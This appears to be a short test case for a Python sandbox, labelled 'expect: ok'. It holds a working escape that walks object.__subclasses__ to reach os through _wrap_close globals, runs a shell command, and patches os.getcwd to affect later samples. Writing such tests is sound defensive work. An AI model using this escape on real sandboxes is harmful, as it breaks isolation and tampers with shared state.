# expect: ok
# about: classic escape through object.__subclasses__ to reach os and patch it for later samples
def f(ctx):
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            g = cls.__init__.__globals__
            g["system"]("touch " + ctx["pwned"])
            g["getcwd"] = lambda: "pwned"
            return "escaped"
    return "not found"
